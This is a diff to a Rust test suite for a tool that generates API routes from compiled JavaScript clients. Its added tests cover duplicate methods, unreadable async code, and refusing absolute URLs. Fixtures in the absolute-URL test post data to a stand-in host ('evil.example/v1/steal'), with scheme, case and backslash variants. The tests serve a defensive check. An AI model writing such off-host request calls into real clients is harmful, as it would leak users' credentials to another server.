@@ -32,7 +32,7 @@ fn route(mods: &[JsModule], class: &str, name: &str) -> Route {
 
 fn reason(mods: &[JsModule], class: &str, name: &str) -> String {
     match &method(mods, class, name).kind {
-        MethodKind::HandWritten { reason } => reason.clone(),
+        MethodKind::HandWritten { reason } | MethodKind::NotUnderstood { reason } => reason.clone(),
         other => panic!("{class}.{name} is not hand-written: {other:?}"),
     }
 }
@@ -61,7 +61,7 @@ fn header(name: &str, param: &str, path: &[&str]) -> Header {
     Header { name: name.into(), param: param.into(), path: path.iter().map(|s| s.to_string()).collect() }
 }
 fn simple(method: &str, path: Vec<PathSegment>, body: Body, query: Query) -> Route {
-    Route { method: method.into(), path, body, query, base_url: None, headers: vec![] }
+    Route { method: method.into(), path, body, query, base_url: None, headers: vec![], guards: vec![] }
 }
 
 #[test]
@@ -314,19 +314,21 @@ fn form_body() {
 }
 
 #[test]
-fn what_is_not_understood_is_hand_written_with_a_reason() {
+fn what_is_not_understood_is_not_generated_with_a_reason() {
     let mods = run_one("dist/users.js", fixture!("not_understood.js"));
     let reasons: Vec<(String, String)> = mods[0].classes[0]
         .methods
         .iter()
         .map(|m| match &m.kind {
-            MethodKind::HandWritten { reason } => (m.name.clone(), reason.clone()),
+            MethodKind::HandWritten { reason } => (m.name.clone(), format!("hand-written: {reason}")),
+            MethodKind::NotUnderstood { reason } => (m.name.clone(), reason.clone()),
             MethodKind::Route(r) => panic!("{} should not be a route: {r:?}", m.name),
         })
         .collect();
+    // Only bodies with no request call at all are hand-written upstream.
     let expected = [
-        ("endpoint", "no request call"),
-        ("searchAll", "no request call"),
+        ("endpoint", "hand-written: no request call"),
+        ("searchAll", "hand-written: no request call"),
         ("unknownKey", "unknown request option `timeout`"),
         ("viaEndpoint", "the URL is built from `this.endpoint(userID)`"),
         ("postProcessed", "the request's response is post-processed: `request(...).then(res => res.user)`"),
@@ -437,5 +439,100 @@ fn output_is_sorted_by_file_and_deterministic() {
 fn garbage_input_never_panics() {
     for text in ["", "class {", "}}}}", "class A { m() { return request(", "\u{0}\u{feff}", "`${"] {
         let _ = extract(&[JsSource { file: "x.js", text }]);
+    }
+}
+
+#[test]
+fn the_last_definition_of_a_method_wins_with_a_warning() {
+    let js = r#"
+var _shared = require("./shared");
+class A {
+  m(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/first" }); }
+  m(data) { return (0, _shared.request)(this.fetchConfig, { method: "POST", url: "/last" }); }
+  static m(data) { return 1; }
+}
+function B() {}
+B.prototype.n = function (data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/first" }); };
+B.prototype.n = function (data) { return (0, _shared.request)(this.fetchConfig, { method: "PUT", url: "/last" }); };
+"#;
+    let (mods, diags) = extract(&[JsSource { file: "dist/a.js", text: js }]);
+    assert_eq!(route(&mods, "A", "m").url_and_method(), ("/last".to_string(), "POST"));
+    assert_eq!(route(&mods, "B", "n").url_and_method(), ("/last".to_string(), "PUT"));
+    // The static method of the same name is another member.
+    assert_eq!(method_names(&mods, "A"), ["m", "m"]);
+    let warnings: Vec<(u32, &str)> = diags.iter().map(|d| (d.loc.line, d.message.as_str())).collect();
+    assert_eq!(
+        warnings,
+        [
+            (4, "method `A.m` is defined again at line 5: JavaScript uses the last definition, and so does the generator"),
+            (9, "method `B.n` is defined again at line 10: JavaScript uses the last definition, and so does the generator"),
+        ]
+    );
+    assert!(diags.iter().all(|d| d.severity == Severity::Warning));
+}
+
+impl Route {
+    fn url_and_method(&self) -> (String, &str) {
+        let url = self.path.iter().map(|s| match s {
+            PathSegment::Literal(l) => l.clone(),
+            PathSegment::Param { field, .. } => format!("{{{field}}}"),
+        });
+        (url.collect(), self.method.as_str())
+    }
+}
+
+#[test]
+fn absolute_urls_are_refused_naming_the_host() {
+    let js = r#"
+var _shared = require("./shared");
+class A {
+  abs(data) { return (0, _shared.request)(this.fetchConfig, { method: "POST", url: "https://evil.example/v1/steal", data }); }
+  upper(data) { return (0, _shared.request)(this.fetchConfig, { method: "POST", url: `HTTPS://user@evil.example:8443/x/${data.id}` }); }
+  schemeless(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "//evil.example/x" }); }
+  backslash(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "\\\\evil.example\\x" }); }
+  field(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: `${data.url}/x` }); }
+  fine(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/v1/x?next=https://a.example" }); }
+}
+"#;
+    let mods = run_one("dist/a.js", js);
+    let host = |m: &str| reason(&mods, "A", m);
+    assert_eq!(
+        host("abs"),
+        "the URL `https://evil.example/v1/steal` is absolute: the request, with the client's credentials, would go to host `evil.example` instead of the base URL"
+    );
+    assert!(host("upper").contains("would go to host `evil.example:8443`"), "{}", host("upper"));
+    assert!(host("schemeless").contains("would go to host `evil.example`"), "{}", host("schemeless"));
+    assert!(host("backslash").contains("would go to host `evil.example`"), "{}", host("backslash"));
+    assert_eq!(host("field"), "the URL starts with the request field `url`, which could name another host");
+    assert!(matches!(method(&mods, "A", "abs").kind, MethodKind::NotUnderstood { .. }));
+    assert_eq!(route(&mods, "A", "fine").url_and_method(), ("/v1/x?next=https://a.example".to_string(), "GET"));
+}
+
+#[test]
+fn regenerator_with_unread_control_flow_is_not_understood_not_hand_written() {
+    // An `await` before the call splits the machine into states: not straight code.
+    let js = r#"
+var _shared = require("./shared");
+var A = function () {
+  function A() { _classCallCheck(this, A); }
+  return _createClass(A, [{ key: "m", value: function () {
+    var _m = _asyncToGenerator(_regeneratorRuntime().mark(function _callee(data) {
+      return _regeneratorRuntime().wrap(function _callee$(_context) {
+        while (1) switch (_context.prev = _context.next) {
+          case 0: _context.next = 2; return data.ready;
+          case 2: return _context.abrupt("return", (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/x" }));
+          case 3: case "end": return _context.stop();
+        }
+      }, _callee, this);
+    }));
+    function m(_x) { return _m.apply(this, arguments); }
+    return m;
+  }() }]);
+}();
+"#;
+    let mods = run_one("dist/a.js", js);
+    match &method(&mods, "A", "m").kind {
+        MethodKind::NotUnderstood { reason } => assert_eq!(reason, "statement not understood: `_context.next = 2;`"),
+        other => panic!("{other:?}"),
     }
 }
